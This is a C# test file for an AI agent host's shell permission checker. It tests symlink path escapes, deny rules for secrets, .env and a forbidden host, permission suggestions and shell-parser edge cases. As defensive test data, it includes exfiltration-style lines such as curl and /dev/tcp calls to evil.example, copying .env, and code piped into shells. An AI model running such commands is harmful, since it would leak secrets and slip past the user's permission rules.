using AgentHost.Client;
using AgentHost.FileSystem.Tests;
using AgentHost.Permissions.Lines;
using AgentHost.ShellSyntax;

namespace AgentHost.Permissions.Tests.Lines;

/// <summary>What lines name: folders behind links, files and hosts that rules forbid, and what is offered for them.</summary>
public sealed class LinePlaceTests
{
    private static readonly FakePaths Linked = new()
    {
        Folders = { "/w/sub", "/w/x/y/z", "/w/secrets" },
        Links = { ["/w/sub/l"] = "/w/x/y/z", ["/w/sub/l/up"] = "/w/x/y/z/up" }
    };

    [Theory]
    [InlineData("cd sub/l && cd ../../.. && cat outer.txt", PermissionDecision.Ask)]
    [InlineData("cd sub/l/.. && ls", PermissionDecision.Ask)]
    [InlineData("cd sub && cd l && cd .. && ls", PermissionDecision.Ask)]
    [InlineData("cd sub/l && ls", PermissionDecision.Allow)]
    [InlineData("cd sub && cd .. && ls", PermissionDecision.Allow)]
    [InlineData("cd sub/../src && ls", PermissionDecision.Allow)]
    [InlineData("cd ../w/src && ls", PermissionDecision.Ask)] // the shell may stand here by another name
    public void Cd_BackFromALink_Asks(string line, PermissionDecision expected) =>
        Assert.Equal(expected, PermissionEvaluator.Evaluate(Plans.Query(Plans.Shell(line)) with { Paths = Linked }).Verdict.Decision);

    [Theory]
    [InlineData("cp secrets/k.txt x", PermissionDecision.Deny)]
    [InlineData("mv secrets x", PermissionDecision.Deny)]
    [InlineData("tar cf x.tar secrets", PermissionDecision.Deny)]
    [InlineData("tar cf x.tar .", PermissionDecision.Deny)]
    [InlineData("cp .env x", PermissionDecision.Deny)]
    [InlineData("cp src/../.env x", PermissionDecision.Deny)]
    [InlineData("curl https://evil.example/", PermissionDecision.Deny)]
    [InlineData("curl -sS http://me@EVIL.example:8080/a?b", PermissionDecision.Deny)]
    [InlineData("curl evil.example/x", PermissionDecision.Deny)]
    [InlineData("curl http:evil.example/x", PermissionDecision.Deny)] // curl takes them for addresses
    [InlineData("curl HTTPS:/evil.example", PermissionDecision.Deny)]
    [InlineData("curl --url=http:evil.example", PermissionDecision.Deny)]
    [InlineData("curl \"https://evil.example/$x\"", PermissionDecision.Deny)]
    [InlineData("echo x > /dev/tcp/evil.example/80", PermissionDecision.Deny)]
    [InlineData("cat < /dev/udp/evil.example/53", PermissionDecision.Deny)]
    [InlineData("u=https://evil.example/x; curl \"$u\"", PermissionDecision.Deny)]
    [InlineData("u=https://evil.example/x; echo \"$u\"", PermissionDecision.Allow)]
    [InlineData("curl \"https://$x.example/evil.example\"", PermissionDecision.Allow)]
    [InlineData("grep -r x .", PermissionDecision.Deny)]
    [InlineData("grep -nR x .", PermissionDecision.Deny)]
    [InlineData("grep -r x src", PermissionDecision.Allow)]
    [InlineData("diff -r . /tmp", PermissionDecision.Deny)]
    [InlineData("git clone git@evil.example:a/b", PermissionDecision.Deny)]
    [InlineData("sh -c 'cp .env x'", PermissionDecision.Deny)]
    [InlineData("timeout 5 cp .env x", PermissionDecision.Deny)]
    [InlineData("cp src/a.cs x", PermissionDecision.Allow)]
    [InlineData("curl https://good.example/", PermissionDecision.Allow)]
    [InlineData("echo secrets/k.txt", PermissionDecision.Allow)]
    [InlineData("ninja secrets", PermissionDecision.Deny)] // it may be the folder
    public void Words_ThatNameWhatADenyRuleForbids_AreDeniedInBypass(string line, PermissionDecision expected) =>
        Assert.Equal(
            expected,
            PermissionEvaluator.Evaluate(Plans.Query(
                Plans.Shell(line),
                PermissionMode.Bypass,
                Plans.Rules(deny: "path(secrets/**); read(.env); host(domain:evil.example)")) with { Paths = Linked }).Verdict.Decision);

    [Theory]
    [InlineData("host(domain:*)", "cp README.md x.txt", PermissionDecision.Allow)] // a name with a dot is no host yet
    [InlineData("host(domain:*)", "curl https://a.example", PermissionDecision.Deny)]
    [InlineData("read", "cp a b", PermissionDecision.Allow)] // the tool, not what a command touches
    [InlineData("shell(push)", "cargo push", PermissionDecision.Allow)] // a command's pattern
    [InlineData("edit(docs/**)", "cp a docs/b", PermissionDecision.Deny)]
    [InlineData("read(**/.env)", "npm test", PermissionDecision.Allow)]
    [InlineData("read(**/.env)", "dotnet build src", PermissionDecision.Allow)] // a folder that is built is not taken whole
    [InlineData("read(**/.env)", "cp -r src x", PermissionDecision.Deny)]
    public void Words_OnlyWhatTheyAreHeldAgainst_IsDenied(string deny, string line, PermissionDecision expected) =>
        Assert.Equal(expected, Plans.Decide(Plans.Shell(line), PermissionMode.Bypass, Plans.Rules(deny: deny)));

    [Theory]
    [InlineData("sh <<EOF\nmake\nEOF", "")]
    [InlineData("echo make | sh -s", "")]
    [InlineData("cat x.py | python3 -", "")]
    [InlineData("cat x | timeout 5 bash", "")]
    [InlineData("uv run x", "shell(uv run x)")]
    [InlineData("poetry run x", "shell(poetry run x)")]
    [InlineData("bundle exec x", "shell(bundle exec x)")]
    [InlineData("npm exec x", "shell(npm exec x)")]
    [InlineData("gawk 'BEGIN{system(1)}'", "shell(gawk 'BEGIN{system(1)}')")]
    [InlineData("nodejs x.js", "shell(nodejs x.js)")]
    [InlineData("sed -i s/a/b/ x", "shell(sed -i s/a/b/ x)")]
    [InlineData("tar xf x.tar", "shell(tar xf x.tar)")]
    [InlineData("git submodule update", "shell(git submodule update)")]
    [InlineData("git rebase main", "shell(git rebase main)")]
    [InlineData("rm notes", "shell(rm notes)")] // "rm notes *" would take "rm notes -rf src"
    [InlineData("cp a b", "shell(cp a b)")]
    [InlineData("curl example", "shell(curl example)")]
    [InlineData("tee out", "shell(tee out)")]
    [InlineData("mkdir src/x", "shell(mkdir src/x)")]
    [InlineData("touch x.txt", "shell(touch x.txt)")]
    [InlineData("git fetch --upload-pack=x origin", "shell(git fetch --upload-pack=x origin)")]
    public void Suggestions_WhatRunsOthers_HasNoFamily(string line, string expected) =>
        Assert.Equal(expected, string.Join('|', PermissionEvaluator.Evaluate(Plans.Query(Plans.Shell(line))).Suggestions));

    [Theory]
    [InlineData("sh <<EOF\nmake\nEOF", "shell(sh); shell(sh *)")]
    [InlineData("cat x.py | python3 -", "shell(cat *); shell(python3 -); shell(python3 *)")]
    [InlineData("echo x | sudo sh", "shell(sudo sh)")]
    [InlineData("echo x | env bash -s", "shell(env bash -s); shell(bash -s)")]
    public void Programs_FromInput_NoPatternAllows(string line, string allow) =>
        Assert.Equal(PermissionDecision.Ask, Plans.Decide(Plans.Shell(line), rules: Plans.Rules(allow: allow)));

    [Theory]
    [InlineData("env -i git status")]
    [InlineData("env - git status")]
    [InlineData("env -u GIT_CONFIG_COUNT git status")]
    [InlineData("bash -c 'exec -c git status'")]
    [InlineData("./env git status")]
    public void Git_WithoutItsSettings_IsNotQuiet(string line)
    {
        Assert.Null(ReadOnlyCommands.EnvironmentFor(null, line));
        Assert.NotNull(ReadOnlyCommands.EnvironmentFor(null, "env CI=1 git status"));
    }

    [Theory]
    [InlineData("echo $'a'")]
    [InlineData("cat <<E\n${x:-$'a'}\nE")]
    [InlineData("echo a &> x b")]
    [InlineData("x+=a")]
    [InlineData("x[0]=a")]
    [InlineData("((x))")]
    [InlineData("[[ -f a\n]]")]
    [InlineData("echo `echo $'a'`")]
    [InlineData("echo $(echo $'a')")]
    public void Parser_WhatOtherShellsCutOtherwise_IsMarked(string line) => Assert.NotNull(ShellParser.Parse(line).Oddity);

    [Theory]
    [InlineData("echo \"$'a\"")]
    [InlineData("echo '$'")]
    [InlineData("ls &> /dev/null")]
    [InlineData("echo \"${x:-a b}\" ${x##*/}")]
    [InlineData("echo $((1 + x))")]
    [InlineData("[[ a == b ]]")]
    [InlineData("cat <<E\n$'a'\nE")]
    public void Parser_WhatAllShellsCutAlike_IsNotMarked(string line) => Assert.Null(ShellParser.Parse(line).Oddity);

    [Theory]
    [InlineData("[[ a\ntouch x ]]")]
    [InlineData("[[ -f\na ]]")]
    [InlineData("[[ a ==\nb ]]")]
    [InlineData("[[ a b ]]")]
    [InlineData("[[ -f ]]")]
    [InlineData("[[ ]]")]
    [InlineData("(\\\n(x))")]
    [InlineData("cat <<E\n\\\nE\nls\nE")]
    public void Parser_WhatBashRefuses_IsNotUnderstood(string line) => Assert.False(ShellParser.Parse(line).IsParsed);
}
